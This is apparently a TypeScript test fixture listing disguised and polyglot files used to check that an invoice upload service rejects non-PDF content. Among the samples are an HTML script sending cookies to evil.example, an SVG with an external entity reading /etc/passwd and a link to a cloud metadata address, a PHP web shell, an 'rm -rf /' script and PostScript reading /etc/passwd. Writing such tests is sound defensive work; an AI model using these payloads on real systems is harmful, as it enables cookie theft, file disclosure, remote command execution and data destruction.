import type { ErrorCode } from '@app/domain';
import type { NastyFile } from './nasty-file.js';
import { onePage } from './raw-pdf.js';

const NO_TYPE = ['UNSUPPORTED_MEDIA_TYPE'] as const;

const disguise = (
  what: string,
  filename: string,
  make: () => Buffer,
  refusedWith?: readonly ErrorCode[],
): NastyFile => ({ what, filename, make, refusedWith });

const text = (content: string) => () => Buffer.from(content, 'latin1');
const HTML = '<!DOCTYPE html><html><script>fetch("//evil.example?"+document.cookie)</script></html>';
const SVG =
  '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' +
  '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://169.254.169.254/"/><text>&x;</text></svg>';

/** Files that are not what their name says, or are two things at once. */
export const NASTY_DISGUISES: readonly NastyFile[] = [
  disguise('HTML named .pdf', 'invoice.pdf', text(HTML), NO_TYPE),
  disguise('SVG named .pdf', 'invoice.pdf', text(SVG), NO_TYPE),
  disguise('SVG named .png', 'invoice.png', text(SVG), NO_TYPE),
  disguise('SVG as it is', 'invoice.svg', text(SVG), NO_TYPE),
  disguise('a script named .pdf', 'invoice.pdf', text('#!/bin/sh\nrm -rf /\n'), NO_TYPE),
  disguise('PHP named .pdf', 'invoice.pdf', text('<?php system($_GET["c"]); ?>'), NO_TYPE),
  disguise('a program named .pdf', 'invoice.pdf', text('\u007fELF\u0002\u0001\u0001\0'.padEnd(500, '\0')), NO_TYPE),
  disguise('a Windows program named .pdf', 'invoice.pdf', text(`MZ${'\0'.repeat(200)}PE\0\0`), NO_TYPE),
  disguise('a ZIP named .pdf', 'invoice.pdf', text(`PK\u0003\u0004${'\0'.repeat(200)}`), NO_TYPE),
  disguise('an e-mail named .pdf', 'invoice.pdf', text('From: a@b.c\r\nSubject: Invoice\r\n\r\nHello'), NO_TYPE),
  disguise('PostScript named .pdf', 'invoice.pdf', text('%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n'), NO_TYPE),
  disguise('an HTML page with a PDF header in a comment', 'invoice.pdf', text(`<!-- %PDF-1.4 -->${HTML}`)),
  disguise('a GIF that is also a PDF', 'invoice.gif', text('GIF89a\u0001\0\u0001\0\0\0\0%PDF-1.4\n%%EOF'), NO_TYPE),
  disguise(
    'a ZIP that is also a PDF',
    'invoice.zip',
    () => Buffer.concat([text(`PK\u0003\u0004${'\0'.repeat(26)}`)(), onePage({})]),
    NO_TYPE,
  ),
  disguise('a PDF that ends as HTML', 'invoice.html', () => Buffer.concat([onePage({}), text(HTML)()])),
  disguise('a PDF that ends as a ZIP', 'invoice.zip', () =>
    Buffer.concat([onePage({}), text('PK\u0005\u0006')(), Buffer.alloc(18)]),
  ),
  disguise('a JPEG with a PDF in its comment', 'a.jpg', () =>
    Buffer.concat([text('\u00ff\u00d8\u00ff\u00fe\u0001\0')(), onePage({}).subarray(0, 254), text('\u00ff\u00d9')()]),
  ),
  disguise('a bare PDF header', 'invoice.pdf', text('%PDF-'), ['UNREADABLE_DOCUMENT', 'EMPTY_DOCUMENT']),
  disguise(
    'a PDF header and 8 MB of zeros',
    'invoice.pdf',
    () => Buffer.concat([text('%PDF-1.7\n')(), Buffer.alloc(8_000_000)]),
    ['UNREADABLE_DOCUMENT', 'EMPTY_DOCUMENT'],
  ),
  disguise('nothing at all', 'invoice.pdf', () => Buffer.alloc(0), ['EMPTY_DOCUMENT']),
  disguise('a single byte', 'invoice.pdf', text('%'), NO_TYPE),
  disguise(
    'noise',
    'invoice.pdf',
    () => Buffer.from(Array.from({ length: 50_000 }, (_, n) => (n * n * 31 + n * 7 + 13) & 255)),
    NO_TYPE,
  ),
];
